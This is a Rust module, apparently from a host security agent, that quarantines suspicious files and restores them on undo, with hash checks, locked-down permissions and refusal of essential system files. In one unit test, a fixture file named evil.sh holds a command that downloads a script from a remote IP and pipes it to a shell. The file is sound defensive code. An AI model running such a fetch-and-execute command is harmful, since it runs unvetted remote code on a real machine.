//! Quarantine: a file moved aside, unreadable, with its hash and metadata beside it, and
//! put back as it was on undo.
//!
//! Files the system cannot run without are refused (the account databases, sudoers, the
//! loader's preload list, the agent's own binary); so is anything that is not a regular
//! file (a symbolic link would move the link, not what the attacker wrote).

use super::Outcome;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

/// Files never quarantined: without them the host cannot log anyone in or boot.
const ESSENTIAL: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/gshadow",
    "/etc/sudoers",
    "/etc/fstab",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/nsswitch.conf",
];
/// Files larger than this are not copied across filesystems (they are moved when the
/// quarantine is on the same one).
const MAX_COPY_BYTES: u64 = 1 << 30;

pub(super) fn quarantine(dir: &Path, id: &str, path: &str) -> Outcome {
    let source = Path::new(path);
    if !source.is_absolute() || path.contains("/../") || path.ends_with("/..") {
        return Err(format!("`{path}` is not an absolute, plain path"));
    }
    if ESSENTIAL.contains(&path) || std::env::current_exe().is_ok_and(|exe| exe == source) {
        return Err(format!("{path} is essential to the host: refused"));
    }
    let meta = fs::symlink_metadata(source).map_err(|e| format!("{path}: {e}"))?;
    if !meta.file_type().is_file() {
        return Err(format!("{path} is not a regular file: refused"));
    }
    let sha256 = crate::hashing::sha256_hex(
        &mut fs::File::open(source).map_err(|e| format!("{path}: {e}"))?,
    )
    .ok_or_else(|| format!("{path} could not be read to hash it"))?;
    fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    fs::set_permissions(dir, fs::Permissions::from_mode(0o700))
        .map_err(|e| format!("{}: {e}", dir.display()))?;
    let stored = dir.join(id);
    move_file(source, &stored, meta.len())?;
    // Nobody runs or reads it there.
    let _ = fs::set_permissions(&stored, fs::Permissions::from_mode(0o000));
    let undo = serde_json::json!({
        "stored": stored.display().to_string(),
        "sha256": sha256,
        "size": meta.len(),
        "mode": meta.mode() & 0o7777,
        "uid": meta.uid(),
        "gid": meta.gid(),
        "mtime": meta.mtime(),
    });
    let record = dir.join(format!("{id}.json"));
    let mut described = undo.clone();
    described["path"] = serde_json::json!(path);
    fs::write(
        &record,
        serde_json::to_vec_pretty(&described).unwrap_or_default(),
    )
    .map_err(|e| format!("{}: {e}", record.display()))?;
    Ok((
        format!(
            "{path} quarantined as {} ({} bytes, sha256 {sha256})",
            stored.display(),
            meta.len()
        ),
        undo,
    ))
}

pub(super) fn restore(path: &str, undo: &serde_json::Value) -> Outcome {
    let stored = undo
        .get("stored")
        .and_then(|v| v.as_str())
        .map(PathBuf::from)
        .ok_or("the quarantined copy is not recorded")?;
    let target = Path::new(path);
    if fs::symlink_metadata(target).is_ok() {
        return Err(format!(
            "{path} exists again: not overwritten (the quarantined copy stays at {})",
            stored.display()
        ));
    }
    let _ = fs::set_permissions(&stored, fs::Permissions::from_mode(0o600));
    let sha256 = crate::hashing::sha256_hex(
        &mut fs::File::open(&stored).map_err(|e| format!("{}: {e}", stored.display()))?,
    );
    if sha256.as_deref() != undo.get("sha256").and_then(|v| v.as_str()) {
        return Err(format!(
            "the quarantined copy {} no longer has the recorded hash: not restored",
            stored.display()
        ));
    }
    let size = fs::metadata(&stored).map(|m| m.len()).unwrap_or(0);
    move_file(&stored, target, size)?;
    let number = |k: &str| undo.get(k).and_then(|v| v.as_u64());
    if let Some(mode) = number("mode") {
        let _ = fs::set_permissions(target, fs::Permissions::from_mode(mode as u32));
    }
    if let (Some(uid), Some(gid)) = (number("uid"), number("gid")) {
        let _ = std::os::unix::fs::chown(target, Some(uid as u32), Some(gid as u32));
    }
    let _ = fs::remove_file(stored.with_extension("json"));
    let _ = fs::remove_file(PathBuf::from(format!("{}.json", stored.display())));
    Ok((format!("{path} restored"), serde_json::Value::Null))
}

/// Renames, or copies and removes across filesystems (a cron spool on `/var` and a
/// quarantine on another disk).
fn move_file(from: &Path, to: &Path, size: u64) -> Result<(), String> {
    match fs::rename(from, to) {
        Ok(()) => Ok(()),
        Err(e) if e.raw_os_error() == Some(libc::EXDEV) => {
            if size > MAX_COPY_BYTES {
                return Err(format!(
                    "{} is larger than 1 GiB and on another filesystem than the quarantine",
                    from.display()
                ));
            }
            fs::copy(from, to).map_err(|e| format!("{}: {e}", to.display()))?;
            fs::File::open(to)
                .and_then(|f| f.sync_all())
                .map_err(|e| format!("{}: {e}", to.display()))?;
            fs::remove_file(from).map_err(|e| format!("{}: {e}", from.display()))
        }
        Err(e) => Err(format!("{} → {}: {e}", from.display(), to.display())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_quarantined_file_comes_back_as_it_was() {
        let work = tempfile::tempdir().unwrap();
        let file = work.path().join("evil.sh");
        fs::write(&file, "curl http://203.0.113.7/x | sh\n").unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
        let dir = work.path().join("quarantine");
        let path = file.display().to_string();
        let (message, undo) = quarantine(&dir, "a1", &path).unwrap();
        assert!(message.contains("quarantined"), "{message}");
        assert!(!file.exists());
        assert_eq!(
            fs::metadata(dir.join("a1")).unwrap().permissions().mode() & 0o777,
            0
        );
        assert_eq!(
            fs::metadata(&dir).unwrap().permissions().mode() & 0o777,
            0o700
        );
        let record: serde_json::Value =
            serde_json::from_slice(&fs::read(dir.join("a1.json")).unwrap()).unwrap();
        assert_eq!(record["path"], path.as_str());
        assert_eq!(record["sha256"], undo["sha256"]);
        restore(&path, &undo).unwrap();
        assert_eq!(
            fs::read_to_string(&file).unwrap(),
            "curl http://203.0.113.7/x | sh\n"
        );
        assert_eq!(
            fs::metadata(&file).unwrap().permissions().mode() & 0o777,
            0o755
        );
    }

    #[test]
    fn refuses_system_files_links_and_overwrites() {
        let work = tempfile::tempdir().unwrap();
        let dir = work.path().join("q");
        assert!(
            quarantine(&dir, "x", "/etc/passwd")
                .unwrap_err()
                .contains("essential")
        );
        assert!(quarantine(&dir, "x", "relative/path").is_err());
        let link = work.path().join("link");
        std::os::unix::fs::symlink("/etc/hostname", &link).unwrap();
        let err = quarantine(&dir, "x", &link.display().to_string()).unwrap_err();
        assert!(err.contains("not a regular file"), "{err}");
        let file = work.path().join("f");
        fs::write(&file, "x").unwrap();
        let path = file.display().to_string();
        let (_, undo) = quarantine(&dir, "y", &path).unwrap();
        fs::write(&file, "new").unwrap();
        assert!(restore(&path, &undo).unwrap_err().contains("exists again"));
    }
}
